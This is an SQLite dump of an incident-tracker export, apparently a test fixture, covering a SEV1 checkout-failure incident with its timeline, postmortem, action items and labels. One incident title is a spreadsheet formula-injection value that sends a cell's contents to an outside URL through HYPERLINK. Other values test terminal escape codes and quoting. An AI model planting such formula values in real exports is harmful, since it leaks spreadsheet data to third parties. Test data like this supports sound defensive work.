BEGIN TRANSACTION;
CREATE TABLE "actions" (
  "incident" TEXT NOT NULL,
  "document" TEXT NOT NULL,
  "position" INTEGER NOT NULL,
  "id" TEXT,
  "text" TEXT NOT NULL,
  "type" TEXT,
  "owner" TEXT,
  "due" TEXT,
  "priority" TEXT,
  "state" TEXT NOT NULL,
  "reason" TEXT,
  "done_on" TEXT,
  "proof" TEXT,
  PRIMARY KEY ("incident", "document", "position"),
  FOREIGN KEY (incident) REFERENCES incidents (id)
) WITHOUT ROWID;
INSERT INTO "actions" VALUES('2026-03-04-checkout-failures','postmortem',1,'9c1dk','@dave: leaks','prevent','dave','2026-03-14','P2','open',NULL,NULL,NULL);
CREATE TABLE "entries" (
  "incident" TEXT NOT NULL,
  "position" INTEGER NOT NULL,
  "id" TEXT,
  "happened_at" TEXT NOT NULL,
  "kind" TEXT NOT NULL,
  "audience" TEXT,
  "author" TEXT,
  "text" TEXT NOT NULL,
  PRIMARY KEY ("incident", "position"),
  FOREIGN KEY (incident) REFERENCES incidents (id)
) WITHOUT ROWID;
INSERT INTO "entries" VALUES('2026-03-04-checkout-failures',1,'0h4tcz3k9m2x','2026-03-04T15:05:00Z','declared',NULL,'alice','SEV1: Checkout fails');
INSERT INTO "entries" VALUES('2026-03-04-checkout-failures',2,NULL,'2026-03-04T15:20:00Z','update','customer',NULL,'- "Checkout" is slow
  	+1');
CREATE TABLE "incidents" (
  "id" TEXT NOT NULL,
  "path" TEXT NOT NULL,
  "title" TEXT NOT NULL,
  "severity" TEXT,
  "status" TEXT,
  "type" TEXT,
  "is_restricted" INTEGER NOT NULL,
  "is_drill" INTEGER NOT NULL,
  "is_open" INTEGER NOT NULL,
  "merged_into" TEXT,
  "began_at" TEXT,
  "started_at" TEXT,
  "detected_at" TEXT,
  "acknowledged_at" TEXT,
  "declared_at" TEXT,
  "mitigated_at" TEXT,
  "resolved_at" TEXT,
  "closed_at" TEXT,
  "ended_at" TEXT,
  "reopened" INTEGER NOT NULL,
  "impact" TEXT,
  "services" TEXT NOT NULL,
  "tags" TEXT NOT NULL,
  "people" TEXT NOT NULL,
  PRIMARY KEY ("id")
) WITHOUT ROWID;
INSERT INTO "incidents" VALUES('2026-03-04-checkout-failures','incidents/2026/03/2026-03-04-checkout-failures.md','=HYPERLINK("https://example.com/?"&A1;"Click")','SEV1','resolved',NULL,0,0,0,NULL,'2026-03-04T15:00:00Z','2026-03-04T15:00:00Z','2026-03-04T15:04:00Z','2026-03-04T15:06:00Z','2026-03-04T15:05:00Z','2026-03-04T15:38:00Z','2026-03-04T16:10:00Z',NULL,'2026-03-04T16:10:00Z',1,'Customers cannot pay,
nobody can','["checkout", "payments, cards"]','[]','["alice"]');
INSERT INTO "incidents" VALUES('2026-03-05-failover-drill','incidents/2026/03/2026-03-05-failover-drill.md','Übung [31m',NULL,'investigating','vendor',1,1,1,'2026-03-04-checkout-failures',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,0,NULL,'[]','["''x"]','[]');
CREATE TABLE "labels" (
  "incident" TEXT NOT NULL,
  "document" TEXT NOT NULL,
  "position" INTEGER NOT NULL,
  "key" TEXT NOT NULL,
  "value" TEXT NOT NULL,
  PRIMARY KEY ("incident", "document", "position"),
  FOREIGN KEY (incident) REFERENCES incidents (id)
) WITHOUT ROWID;
INSERT INTO "labels" VALUES('2026-03-04-checkout-failures','incident',1,'services','checkout');
INSERT INTO "labels" VALUES('2026-03-04-checkout-failures','incident',2,'services','payments, cards');
INSERT INTO "labels" VALUES('2026-03-04-checkout-failures','postmortem',1,'authors','''alice');
CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT) WITHOUT ROWID;
INSERT INTO "meta" VALUES('exported_at','2026-03-06T12:00:00Z');
INSERT INTO "meta" VALUES('generated_by','inc 0.1.0');
INSERT INTO "meta" VALUES('head','1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d');
INSERT INTO "meta" VALUES('query','severity:SEV1');
INSERT INTO "meta" VALUES('restricted_left_out','2');
INSERT INTO "meta" VALUES('unreadable_left_out','1');
INSERT INTO "meta" VALUES('version','1');
CREATE TABLE "postmortems" (
  "incident" TEXT NOT NULL,
  "path" TEXT NOT NULL,
  "stage" TEXT NOT NULL,
  "published_at" TEXT,
  "meeting_at" TEXT,
  PRIMARY KEY ("incident"),
  FOREIGN KEY (incident) REFERENCES incidents (id)
) WITHOUT ROWID;
INSERT INTO "postmortems" VALUES('2026-03-04-checkout-failures','postmortems/2026/03/2026-03-04-checkout-failures.md','published','2026-03-04T15:00:00Z',NULL);
CREATE TABLE "promises" (
  "incident" TEXT NOT NULL,
  "position" INTEGER NOT NULL,
  "promised_at" TEXT NOT NULL,
  "waited_until" TEXT,
  "is_over" INTEGER NOT NULL,
  PRIMARY KEY ("incident", "position"),
  FOREIGN KEY (incident) REFERENCES incidents (id)
) WITHOUT ROWID;
INSERT INTO "promises" VALUES('2026-03-04-checkout-failures',1,'2026-03-04T15:40:00Z',NULL,0);
INSERT INTO "promises" VALUES('2026-03-04-checkout-failures',2,'2026-03-04T16:00:00Z','2026-03-04T16:10:00Z',1);
CREATE INDEX "incidents_began_at" ON "incidents" ("began_at");
CREATE INDEX "entries_happened_at" ON "entries" ("happened_at");
CREATE INDEX "entries_kind" ON "entries" ("kind");
CREATE INDEX "actions_state" ON "actions" ("state");
CREATE INDEX "actions_owner" ON "actions" ("owner");
CREATE INDEX "labels_key" ON "labels" ("key");
COMMIT;
